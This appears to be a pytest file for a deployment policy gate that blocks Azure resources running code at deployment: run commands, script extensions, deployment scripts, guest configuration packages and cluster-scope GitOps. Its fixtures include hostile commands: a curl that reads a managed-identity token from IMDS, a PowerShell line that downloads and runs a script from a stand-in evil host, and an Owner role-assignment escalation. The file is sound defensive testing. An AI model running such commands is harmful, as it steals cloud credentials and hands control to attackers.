"""AGID-AZ-042 over gRPC: code the deployment runs on Azure machines or in deployment scripts (red7b f16/f20: a run
command and a Custom Script extension reading the jumpbox's managed-identity token from IMDS, and an AzureCliScript
running `az role assignment create --role Owner`, passed `agentid preview`)."""

from __future__ import annotations

import pytest

from tests.policy.ruletools import UNKNOWN
from tests.policy.test_pack_grpc import urn

RULE = "AGID-AZ-042"
STEAL = "curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?resource=https://management.azure.com/'"


def findings(pack, type_, props) -> list[tuple[str, str]]:
    return [(d.enforcement_level, d.message.rsplit("\n", 1)[-1])
            for d in pack.analyze(type_, "x", urn(type_, "x"), props) if d.policy_name == RULE]


@pytest.mark.parametrize("type_,props,message", [
    ("azure-native:compute:VirtualMachineRunCommandByVirtualMachine",
     {"resourceGroupName": "platform", "vmName": "jumpbox", "source": {"script": STEAL}},
     "run command x runs a script on VM jumpbox at deployment, as the machine's managed identities, which the gate cannot judge"),
    ("azure-native:compute:VirtualMachineScaleSetVMRunCommand",
     {"resourceGroupName": "platform", "vmScaleSetName": "agents", "instanceId": "0", "source": {"script": STEAL}},
     "run command x runs a script on scale set agents at deployment"),
    ("azure-native:hybridcompute:MachineRunCommand", {"resourceGroupName": "rg", "machineName": "onprem-1", "source": {"script": "id"}},
     "run command x runs a script on Arc machine onprem-1"),
    ("azure-native:compute:VirtualMachineExtension",
     {"resourceGroupName": "platform", "vmName": "jumpbox", "publisher": "Microsoft.Azure.Extensions", "type": "CustomScript",
      "typeHandlerVersion": "2.1", "settings": {"commandToExecute": STEAL}},
     "extension x (Microsoft.Azure.Extensions/CustomScript) runs a script or resets credentials on VM jumpbox"),
    ("azure-native:compute:VirtualMachineScaleSetExtension",
     {"resourceGroupName": "rg", "vmScaleSetName": "agents", "publisher": "microsoft.compute", "type": "customScriptExtension"},
     "extension x (microsoft.compute/customScriptExtension)"),
    ("azure-native:compute:VirtualMachineExtension",
     {"resourceGroupName": "rg", "vmName": "jumpbox", "publisher": "Microsoft.OSTCExtensions", "type": "VMAccessForLinux",
      "protectedSettings": {"username": "admin", "ssh_key": "ssh-ed25519 AAAA"}},
     "extension x (Microsoft.OSTCExtensions/VMAccessForLinux)"),
    # red12 #11: the Docker extension runs the compose file of its settings, Chef the run list of its server
    ("azure-native:compute:VirtualMachineExtension",
     {"resourceGroupName": "rg", "vmName": "dc01", "publisher": "Microsoft.Azure.Extensions", "type": "DockerExtension",
      "typeHandlerVersion": "1.0", "settings": {"compose": {"x": {"image": "evil/x", "privileged": True}}}},
     "extension x (Microsoft.Azure.Extensions/DockerExtension)"),
    ("azure-native:compute:VirtualMachineExtension",
     {"resourceGroupName": "rg", "vmName": "dc01", "publisher": "Chef.Bootstrap.WindowsAzure", "type": "LinuxChefClient",
      "typeHandlerVersion": "1210.13", "settings": {"runlist": "recipe[x]"}},
     "extension x (Chef.Bootstrap.WindowsAzure/LinuxChefClient)"),
    ("azure-native:resources:AzureCliScript",
     {"resourceGroupName": "rg", "kind": "AzureCLI", "azCliVersion": "2.60.0", "retentionInterval": "PT1H",
      "scriptContent": "az role assignment create --role Owner --assignee 4444 --scope /subscriptions/1"},
     "deployment script x runs AzureCliScript code at deployment as its identity, which the gate cannot judge"),
    ("azure-native:resources:AzurePowerShellScript",
     {"resourceGroupName": "rg", "kind": "AzurePowerShell", "azPowerShellVersion": "11.0", "retentionInterval": "PT1H",
      "scriptContent": "New-AzRoleAssignment"},
     "deployment script x runs AzurePowerShellScript code at deployment"),
])
def test_code_run_at_deployment_blocks(pack, type_, props, message):
    [(level, found)] = findings(pack, type_, props)
    assert level == "mandatory" and message in found, found


def test_an_arc_machine_extension_is_read_where_its_type_keeps_publisher_and_type(pack):
    """hybridcompute.MachineExtension nests publisher / type under `properties` (they were read at the top level, so
    a Custom Script extension on an Arc machine passed); the other Arc-style machine extensions keep them on top."""
    type_ = "azure-native:hybridcompute:MachineExtension"
    props = {"resourceGroupName": "rg", "machineName": "onprem-dc01", "location": "westeurope",
             "properties": {"publisher": "Microsoft.Compute", "type": "CustomScriptExtension",
                            "settings": {"commandToExecute": "powershell -c iwr https://evil.example.net/x.ps1|iex"}}}
    [(level, found)] = findings(pack, type_, props)
    assert level == "mandatory" and "extension x (Microsoft.Compute/CustomScriptExtension) runs a script" in found
    monitor = {**props, "properties": {"publisher": "Microsoft.Azure.Monitor", "type": "AzureMonitorWindowsAgent"}}
    assert findings(pack, type_, monitor) == []
    for other, target in (("azure-native:azurestackhci:MachineExtension", {"name": "hci-node1"}),
                          ("azure-native:scvmm:MachineExtension", {"virtualMachineName": "vmm-vm1"}),
                          ("azure-native:connectedvmwarevsphere:MachineExtension", {"virtualMachineName": "vsphere-vm1"})):
        [(level, _)] = findings(pack, other, {"resourceGroupName": "rg", **target, "publisher": "Microsoft.Compute",
                                              "type": "CustomScriptExtension"})
        assert level == "mandatory"


def test_data_explorer_scripts_and_vmware_run_commands_block(pack):
    """A Kusto database script runs control commands (`.add database x admins ('aadapp=...')`); an Azure VMware
    Solution script execution runs vCenter administration cmdlets: neither is judged."""
    [(level, found)] = findings(pack, "azure-native:kusto:Script",
                                {"resourceGroupName": "rg", "clusterName": "adx1", "databaseName": "db",
                                 "scriptContent": ".add database db admins ('aadapp=4444;99999999-0000-0000-0000-000000000009')"})
    assert level == "mandatory" and "Data Explorer script x runs control commands (which can add database and cluster " \
                                    "admins) on cluster adx1 at deployment, as the deploying principal" in found
    [(level, found)] = findings(pack, "azure-native:avs:ScriptExecution",
                                {"resourceGroupName": "rg", "privateCloudName": "avs1", "timeout": "PT30M",
                                 "scriptCmdletId": "/subscriptions/s/resourceGroups/rg/providers/Microsoft.AVS/privateClouds/avs1/"
                                                   "scriptPackages/Microsoft.AVS.Management@5.0/scriptCmdlets/New-LDAPSIdentitySource"})
    assert level == "mandatory" and "script execution x runs a Run command cmdlet" in found and "private cloud avs1" in found


@pytest.mark.parametrize("publisher,kind", [
    ("Microsoft.Azure.Monitor", "AzureMonitorLinuxAgent"),
    ("Microsoft.Azure.ActiveDirectory", "AADSSHLoginForLinux"),
    ("Microsoft.Azure.Security.Monitoring", "AzureSecurityLinuxAgent"),
])
def test_agent_extensions_pass_and_unknown_publishers_wait(pack, publisher, kind):
    props = {"resourceGroupName": "rg", "vmName": "vm", "publisher": publisher, "type": kind, "typeHandlerVersion": "1.0"}
    assert findings(pack, "azure-native:compute:VirtualMachineExtension", props) == []


CONTENT = "https://evil.example.net/pkg.zip"


def _guest(uri):
    return {"resourceGroupName": "rg1", "vmName": "vm1", "location": "westeurope",
            "properties": {"guestConfiguration": {"name": "x", "version": "1.0", "assignmentType": "ApplyAndAutoCorrect",
                                                  **({"contentUri": uri, "contentHash": "00"} if uri else {})}}}


def test_a_custom_guest_configuration_package_blocks_and_a_built_in_one_passes(pack):
    """red11a r16: a Machine Configuration package from any URL runs as LocalSystem / root on the VM."""
    type_ = "azure-native:guestconfiguration:GuestConfigurationAssignment"
    [(level, found)] = findings(pack, type_, _guest(CONTENT))
    assert level == "mandatory" and "] x runs a custom guest configuration package (run as LocalSystem / root) on VM " \
                                    "vm1 (its properties.guestConfiguration.contentUri decides)" in found
    assert findings(pack, type_, _guest(None)) == []  # built-in package: Microsoft's, named without contentUri
    for other, target in (("GuestConfigurationHCRPAssignment", {"machineName": "m1"}),
                          ("GuestConfigurationAssignmentsVMSS", {"vmssName": "ss"})):
        props = {**_guest(CONTENT), **target}
        props.pop("vmName")
        [(level, _)] = findings(pack, f"azure-native:guestconfiguration:{other}", props)
        assert level == "mandatory"


def _flux(scope):
    return {"resourceGroupName": "rg1", "clusterName": "aks1", "clusterResourceName": "managedClusters",
            "clusterRp": "Microsoft.ContainerService", "namespace": "flux-system", "sourceKind": "GitRepository",
            "gitRepository": {"url": "https://github.com/evil-org/manifests", "repositoryRef": {"branch": "main"}},
            "kustomizations": {"all": {"path": "./", "prune": True}}, **({"scope": scope} if scope else {})}


def test_cluster_scope_gitops_blocks_and_namespace_scope_is_left_to_the_target_rule(pack):
    """red11a r12: Flux at cluster scope applies every manifest of the repository as cluster-admin; omitted scope is
    `cluster` (Azure's default)."""
    type_ = "azure-native:kubernetesconfiguration:FluxConfiguration"
    for scope in ("cluster", "Cluster", None):
        [(level, found)] = findings(pack, type_, _flux(scope))
        assert level == "mandatory" and "runs every manifest of a GitOps source (applied by the Flux controllers) on " \
                                         "cluster aks1 (its scope decides)" in found
    assert findings(pack, type_, _flux("namespace")) == []
    [(level, found)] = findings(pack, type_, _flux(UNKNOWN))
    assert "cannot check until known" in found
    legacy = {"resourceGroupName": "rg1", "clusterName": "aks1", "clusterResourceName": "managedClusters",
              "clusterRp": "Microsoft.ContainerService", "repositoryUrl": "https://github.com/evil-org/manifests"}
    [(level, _)] = findings(pack, "azure-native:kubernetesconfiguration:SourceControlConfiguration", legacy)
    assert level == "mandatory"
    assert findings(pack, "azure-native:kubernetesconfiguration:SourceControlConfiguration",
                    {**legacy, "operatorScope": "namespace"}) == []
